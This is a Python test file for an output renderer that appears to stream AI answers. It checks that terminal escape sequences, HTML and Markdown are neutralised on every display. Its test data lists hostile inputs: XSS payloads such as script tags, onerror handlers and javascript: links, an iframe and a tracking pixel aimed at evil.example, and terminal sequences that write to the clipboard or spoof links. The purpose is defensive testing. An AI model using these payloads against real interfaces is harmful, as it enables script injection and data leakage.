"""Text that could act or spoil what stands around it, on every display; `.text` keeps it exactly.

The text is drawn cut at every character, because that is how it arrives.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from nbstream.markdown import render
from nbstream.result import StreamResult
from tests.display.displays import COMPLETED, STOPPED, STREAMING, Page, frames, outside, printed, saved

# --- characters that act ----------------------------------------------------------------------------------------------

CONTROLS = "".join(map(chr, (*range(0x20), *range(0x7F, 0xA0))))
SEQUENCES = [
    "colour \x1b[31mred\x1b[0m",
    "clipboard \x1b]52;c;cm0gLXJm\x07",
    "link \x1b]8;;https://evil.example\x1b\\here\x1b]8;;\x1b\\",
    "title \x1b]0;root@host\x07",
    "eight bits \x9b2J \x9d52;c;eA==\x9c",
    "over\rwritten and back\b\b\bspaced",
    "clear \x1bc and answer back \x1b[6n\x05",
    "code `\x1b[2J` and\n\n```\n\x1b[2J\x00\n```\n",
    CONTROLS,
]
ACTING = re.compile(r"[^\S \n\t\u2028\u2029\u00a0]|[\x00-\x08\x0e-\x1f\x7f-\x9f]")


@pytest.mark.wire("I03")
@pytest.mark.parametrize("text", SEQUENCES, ids=ascii)
def test_nothing_that_acts_reaches_any_display(text: str) -> None:
    result = StreamResult(text, COMPLETED, "stop")
    shown = [Page().draw(frames(text)), printed(frames(text)), *saved(result), repr(result)]
    for each in shown:
        assert not ACTING.search(each), ascii(each)
    assert result.text == text


@pytest.mark.wire("I03")
def test_an_escape_is_seen_for_what_it_is() -> None:
    text = "a\x1b[31mb"
    assert Page().draw(frames(text)) == "<p>a\u241b[31mb</p>"
    assert printed(frames(text)) == "a\u241b[31mb\n"
    assert saved(StreamResult(text, COMPLETED, "stop")) == ("a\u241b\\[31mb", "a\u241b[31mb")


# --- markup that acts -------------------------------------------------------------------------------------------------

MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<style>*{display:none}</style><iframe src=//evil.example></iframe>",
    "[a](javascript:alert(1)) [b](JaVaScRiPt&colon;alert(1)) <javascript:alert(1)>",
    "![p](https://evil.example/pixel.png?secret) ![q](data:image/svg+xml,<svg/onload=alert(1)>)",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "`</code><script>alert(1)</script>`",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "</div></div><button onclick=alert(1)>Stop</button>",
    '<a href="https://ok.example" style="position:fixed" onmouseover=alert(1)>x</a>',
    "$\\href{javascript:alert(1)}{x}$",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]
TAGS = {"p", "a", "code", "pre", "span", "em", "strong", "div", "h1", "h2", "ul", "ol", "li", "blockquote", "del", "br"}


class Actors(HTMLParser):
    """Collects what could act in HTML: elements and attributes that an answer has no need of, links to odd places."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.found.append(tag)
        for name, value in attrs:
            odd = name not in {"class", "href", "lang", "rel", "target"}
            if odd or (name == "href" and not re.match(r"https?://|mailto:", value or "")):
                self.found.append(f"{name}={value}")


@pytest.mark.wire("I04")
@pytest.mark.parametrize("text", MARKUP)
def test_markup_is_text_at_every_moment(text: str) -> None:
    page = Page()
    for frame in frames(text):
        html = page.draw([frame])
        assert Actors(html).found == [], frame.text
        markdown, words = saved(frame)
        assert Actors(outside(markdown)).found == [], frame.text
        assert words.startswith(frame.text)
    assert printed(frames(text)) == text + "\n"


@pytest.mark.wire("I04")
def test_no_remote_image_is_loaded_by_itself() -> None:
    text = "![p](https://evil.example/pixel.png?secret)"
    assert "<img" not in Page().draw(frames(text))
    assert "<img" not in outside(saved(StreamResult(text, COMPLETED, "stop"))[0])


# --- Markdown that is half open ---------------------------------------------------------------------------------------


@pytest.mark.wire("I05")
@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**bo", "<p><strong>bo</strong></p>"),
        ("an *itali", "<p>an <em>itali</em></p>"),
        ("`co", "<p><code>co</code></p>"),
        ("see [docs](https://exa", "<p>see docs</p>"),
        ("- a\n- **b", "<ul>\n<li>a</li>\n<li><strong>b</strong></li>\n</ul>"),
        ("> quo", "<blockquote>\n<p>quo</p>\n</blockquote>"),
    ],
)
def test_what_is_half_open_looks_closed_while_it_grows(text: str, html: str) -> None:
    assert Page().draw([StreamResult(text, STREAMING)]) == html


HALF_OPEN = [
    "```python\nx = [1",
    "~~~\ntext",
    "````md\n```\ninner\n```\n",
    "```\nfirst\n```\n\n```",
    "**bold",
    "`code",
    "[docs](https://docs.exa",
    "[docs",
    "![image](https://docs.example/a.pn",
    "$$\n\\frac{1}{",
    "\\[ x",
    "| a | b |\n| --- | --- |\n| 1",
    "| a | b |\n| --",
    "- item\n  - deeper",
    "1. one\n2. ```sh\n   ls",
    "> quote\n> ```\n> code",
    "> quote",
    "<!-- comment",
    "<div>",
    "# Title",
    "[a]: https://docs.exa",
    "line\\",
]


@pytest.mark.wire("I05")
@pytest.mark.parametrize("text", HALF_OPEN)
def test_the_mark_below_a_half_open_answer_is_no_part_of_it(text: str) -> None:
    page = Page()
    stopped = StreamResult(text, STOPPED)
    markdown, words = saved(stopped)
    for html in (outside(markdown), render(markdown)):
        quote = html.rpartition("<blockquote>")[2]
        assert re.match(r"\s*<p><strong>Stopped\.</strong> You stopped", quote), markdown
        assert html.count("Stopped.") == 1
    page.draw([StreamResult(text, STREAMING), stopped])
    assert "Stopped" not in page.html
    assert page.mark is not None
    assert page.mark["word"] == "Stopped"
    shown = printed([stopped])
    assert shown.startswith(text.removesuffix("\n") + "\n[Stopped: ")
    assert words.startswith(f"{text}\n\n[Stopped: ")
    assert stopped.text == text
